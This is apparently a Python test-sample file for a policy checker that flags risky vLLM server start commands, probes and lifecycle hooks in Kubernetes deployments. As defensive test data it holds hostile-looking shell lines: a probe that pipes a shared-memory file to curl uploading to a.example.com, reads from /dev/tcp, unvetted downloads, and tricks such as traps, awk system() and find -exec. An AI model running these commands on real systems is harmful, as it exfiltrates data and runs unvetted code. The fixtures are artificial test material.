"""Samples of the rules on how a server starts: wrappers, scripts, probes and hooks, folders."""

from __future__ import annotations

from typing import Any

from tests.policy.samples.models import MODELS
from tests.policy.support.objects import DEPLOYMENT_TYPE
from tests.policy.support.sample import UNKNOWN_VALUE, Sample, table
from tests.policy.support.served import FIRST, SERVER, starts

_SERVE = "exec vllm serve /mnt/models"


def _sh(script: str, shell: str = "sh") -> dict[str, Any]:
    return starts([shell, "-c", script])


_UNREAD = (
    *(
        (f"a program in {name}", _sh(f"{script}; {_SERVE}"), f"args: starts {says}")
        for name, script, says in (
            ("a trap", "trap 'python3 /srv/x.py' EXIT", "a script of Python"),
            ("a trap on a signal", "trap -- 'curl -o /x http://a' USR1", "the program 'curl'"),
            ("a trap within quotes", 'trap "cp /srv/a /mnt/adapters" 0', "the program 'cp'"),
            ("awk", "awk 'BEGIN {system(\"x\")}'", "the program 'awk'"),
            ("awk's file", "awk -f /srv/x.awk /dev/null", "the program 'awk'"),
            ("a process substitution", "cat <(python3 /srv/x.py)", "a process substitution"),
            ("a sum", "echo $((a[$(x)]))", "a sum that is not understood"),
            ("a sum of the old kind", "echo $['$(x)']", "a sum that is not understood"),
            ("a sum of the old kind in quotes", 'echo "$[1 + $(x)]"', "a sum that is not understood"),
            ("an element that is read", "read -r 'a[$(x)]'", "read into what is no plain name"),
            ("a name that is not known", 'read "$A"', "read into what is no plain name"),
            ("a list that is read", "read -a A", "read with an option that is not understood"),
            ("an element that is waited for", "sleep 1 & wait -n -p 'a[$(x)]'", "the program 'wait'"),
            ("an element that waits in one word", "wait '-pa[$(x)]'", "the program 'wait'"),
            ("a file's number", "echo {a['$(x)']}>/dev/null", "a file whose number is a variable"),
            ("another shell", "zsh -c true", "the program 'zsh'"),
            ("an expansion", "echo ${A@P}", "an expansion that is not understood"),
            ("a substitution in a default", 'echo "${A:-$(x)}"', "an expansion that is not understood"),
            ("a function", "sleep() { python3 /srv/x.py; }", "a function or a list"),
            ("a case", "case a in a) x;; esac", "a case"),
            ("env", "env A=1 /srv/x", "the program '/srv/x'"),
            ("a path that looks like another", "/srv/bin/sleep 1", "the program '/srv/bin/sleep'"),
            ("a path out of the image's folder", "/usr/../srv/sleep 1", "the program '/usr/../srv/sleep'"),
            ("a path from here", "./sleep 1", "the program './sleep'"),
            ("a file that it reads in", ". /srv/bin/activate", "the program '.'"),
            ("sort", "sort --compress-program=/srv/x a", "the program 'sort'"),
            ("find", "find / -exec x {} +", "the program 'find'"),
            ("printf into a variable", "printf -v A %s x", "the program 'printf'"),
            ("another shell's file", "bash /srv/x.sh", "a script that lies in a file"),
            ("a shell with a start file", "bash --rcfile /srv/x -ic true", "a script that lies in a file"),
            ("a place of the network", "cat < /dev/tcp/a/1", "a place that the script reads"),
            ("a file that it writes", "cd /; echo x > 1", "a file that the script writes"),
            ("a download", "curl -o /mnt/adapters/a http://localhost/a", "the program 'curl'"),
            ("a call that changes", "curl -X POST http://localhost:8000/v1/load_lora_adapter", "the program 'curl'"),
        )
    ),
    *(
        (f"words that change, by {script}", _sh(f"{script}; {_SERVE} $@"), f"args: starts {says}")
        for script, says in (
            ("set -- --trust-remote-code", "set with words that are not understood"),
            ("set --trust-remote-code", "set with words that are not understood"),
            ("shift", "the program 'shift'"),
            ("IFS=,", "a script that sets IFS"),
            ("set -a", "set with words that are not understood"),
        )
    ),
    *(
        (f"behind {command[:-1]}", starts([*command[:-1], "vllm", "serve", "/mnt/models"]), f"args: starts {says}")
        for command, says in (
            (["env", "--argv0=x", ""], "env with an option that is not understood"),
            (["env", "-i", ""], "a program without the container's variables"),
            (["env", "--ignore-env", ""], "a program without the container's variables"),
            (["env", "-S", "sh $X", ""], "env with a text that is not understood"),
            (["env", "-Spython3 /srv/x.py", ""], "a script of Python"),
            (["env", "--split-string=sh /srv/x", ""], "a script that lies in a file"),
            (["env", "--split=/srv/x", ""], "the program '/srv/x'"),
            (["env", "-vS/srv/x", ""], "the program '/srv/x'"),
            (["exec", "-a", "sleep", ""], "exec with an option that is not understood"),
            (["timeout", "--sig", "9", ""], "timeout with an option that is not understood"),
            (["timeout", "python3", ""], "timeout with words that are not understood"),
            (["/srv/env", ""], "the program '/srv/env'"),
            (["python3", "-X", "pycache_prefix=/srv", "-m", "vllm", ""], "a script of Python"),
            (["python3", "-W", "error::srv.X", "-m", "vllm", ""], "a script of Python"),
        )
    ),
)
_READ = (
    *(
        (f"what is understood: {script}", _sh(f"{script}; {_SERVE}"))
        for script in (
            *(
                "set -euo pipefail",
                "ulimit -n 65535",
                "umask 027",
                "trap - TERM",
                "echo 'it > is' up",
                "cd /vllm-workspace",
            ),
            *("nvidia-smi -L", "sleep 5 2>&1", "test -d /mnt/models || exit 1", '[ -n "$X" ] && echo x', "true | cat"),
            *("for i in 1 2 3; do sleep 1; done", "until curl -sf http://localhost:9/x; do sleep 1; done"),
            *(
                "# a remark; python3 /srv/x.py",
                ". /opt/venv/bin/activate",
                "mkdir -p /tmp/x",
                "if true; then echo a; else echo b; fi",
                "(sleep 1)",
            ),
        )
    ),
    *(
        (f"a server behind {command}", starts([*command, "vllm", "serve", "/mnt/models"]))
        for command in (
            *(["tini", "--"], ["/usr/bin/env"], ["nice", "-n", "5"], ["stdbuf", "-oL"], ["numactl", "--membind=0"]),
            *(["/usr/bin/dumb-init", "--"], ["env", "-u", "X"], ["env", "-S", "nohup"], ["timeout", "-s9", "60"]),
            *(["taskset", "-c", "0-15"], ["/opt/venv/bin/python3", "-u", "-X", "dev", "-m"]),
        )
    ),
)
_STARTS = (*table(DEPLOYMENT_TYPE, SERVER, *_UNREAD, *_READ, world=MODELS),)


def _hook(path: str, *command: Any) -> dict[str, Any]:
    return {f"{FIRST} {path}": {"exec": {"command": list(command)}}}


_HOOKS = table(
    DEPLOYMENT_TYPE,
    SERVER,
    *(
        (f"a probe of its own program, {command}", _hook("readinessProbe", *command), f"Probe.exec: starts {says}")
        for command, says in (
            (["sh", "-c", "cat /dev/shm/x | curl -T - https://a.example.com"], "the program 'curl'"),
            (["curl", "-sf", "https://a.example.com/x"], "the program 'curl'"),
            (["curl", "-d", "@/x", "http://localhost:8000/x"], "the program 'curl'"),
            (["python3", "-c", "x"], "a script of Python"),
            (["sh", "-c", "vllm serve other/model --port 9000 &"], "a server of its own"),
            (["/srv/check"], "the program '/srv/check'"),
            ([UNKNOWN_VALUE], "a program whose name is not known"),
            (["env", "PYTHONPATH=/srv", "sleep", "1"], "a program with variables or folders of its own"),
        )
    ),
    *(
        (
            f"a hook of its own program, {name}, {script}",
            _hook(f"lifecycle {name}", "sh", "-c", script),
            f"{name}.exec: starts {says}",
        )
        for name, script, says in (
            ("postStart", "python3 -c 'x'", "a script of Python"),
            ("preStop", "cp /dev/shm/x /mnt/x", "the program 'cp'"),
            ("postStart", "wget -O /mnt/adapters/a http://localhost/a", "the program 'wget'"),
        )
    ),
    ("a hook that is not known", {f"{FIRST} lifecycle": UNKNOWN_VALUE}, "lifecycle: is not known"),
    ("a probe that is not known", {f"{FIRST} startupProbe": {"exec": UNKNOWN_VALUE}}, "startupProbe: is not known"),
    (
        "a probe of another host",
        {f"{FIRST} readinessProbe": {"httpGet": {"host": "a.example.com", "port": 80}}},
        "readinessProbe.httpGet.host: is 'a.example.com', which is another host than the pod",
    ),
    *(
        (f"a probe that is understood, {command}", _hook("startupProbe", *command))
        for command in (
            ["curl", "-sf", "-m", "3", "-o", "/dev/null", "http://127.0.0.1:8080/health"],
            ["wget", "-qO-", "http://localhost:8080/v1/models"],
            ["sh", "-c", "test -f /tmp/ready"],
            ["grpc_health_probe", "-addr=:9000"],
            ["nc", "-z", "localhost", "8080"],
            ["pgrep", "-f", "vllm"],
        )
    ),
    ("a hook that sleeps", _hook("lifecycle preStop", "sh", "-c", "sleep 15")),
    ("a hook of the kubelet", {f"{FIRST} lifecycle": {"preStop": {"sleep": {"seconds": 10}}}}),
    ("a call of its own", {f"{FIRST} lifecycle": {"preStop": {"httpGet": {"path": "/x", "port": 8080}}}}),
    *(
        (f"started elsewhere, by {command}", starts(command), "args: goes to a folder that is")
        for command in (
            ["sh", "-c", f"cd /srv && {_SERVE}"],
            ["sh", "-c", f"cd x; {_SERVE}"],
            ["bash", "-c", f"cd -- /mnt; {_SERVE}"],
            ["env", "--chdir=/srv", "vllm", "serve", "/mnt/models"],
            ["env", "-C/srv", "vllm", "serve", "/mnt/models"],
        )
    ),
    ("started in the image's folder", _sh(f"cd /vllm-workspace && {_SERVE}")),
    (
        "processes that are shared",
        {"spec template spec shareProcessNamespace": True},
        "shareProcessNamespace: is not false: every container",
    ),
    ("processes that are not shared", {"spec template spec shareProcessNamespace": False}),
    world=MODELS,
)
SAMPLES: dict[str, tuple[Sample, ...]] = {"adapters-approved": _STARTS, "runtime-lora-updating": _HOOKS}
